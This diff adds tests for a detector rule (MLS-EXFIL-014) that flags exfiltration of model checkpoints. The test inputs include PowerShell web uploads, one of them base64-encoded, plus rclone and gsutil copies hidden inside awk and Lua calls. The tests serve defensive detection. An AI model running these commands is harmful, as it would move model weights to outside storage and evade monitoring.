@@ -54,6 +54,10 @@ describe('MLS-EXFIL-014 through GTFOBins interpreters', () => {
 
   it('cloud copies and rclone (service account too)', () => {
     expect(ids(['pwsh', '-c', `aws s3 cp ${CKPT} s3://bucket/x`], SA)).toContain('MLS-EXFIL-014');
+    // PowerShell's own upload: a web cmdlet with -InFile, any case, also through an alias.
+    expect(ids(['pwsh', '-c', `Invoke-WebRequest -Uri ${URL} -Method Put -InFile ${CKPT}`])).toContain('MLS-EXFIL-014');
+    expect(ids(['pwsh', '-enc', enc(`irm ${URL} -method post -infile ${CKPT}`)])).toContain('MLS-EXFIL-014');
+    expect(ids(['pwsh', '-c', `Invoke-WebRequest -Uri ${URL} -OutFile /tmp/x`])).not.toContain('MLS-EXFIL-014');
     expect(ids(['awk', 'BEGIN{system("rclone copy /mnt/ckpt/llama-ft remote:bucket")}'], SA)).toContain('MLS-EXFIL-014');
     expect(ids(['lua', '-e', 'os.execute("gsutil cp -r /mnt/ckpt/llama-ft gs://bucket/x")'], SA)).toContain('MLS-EXFIL-014');
   });
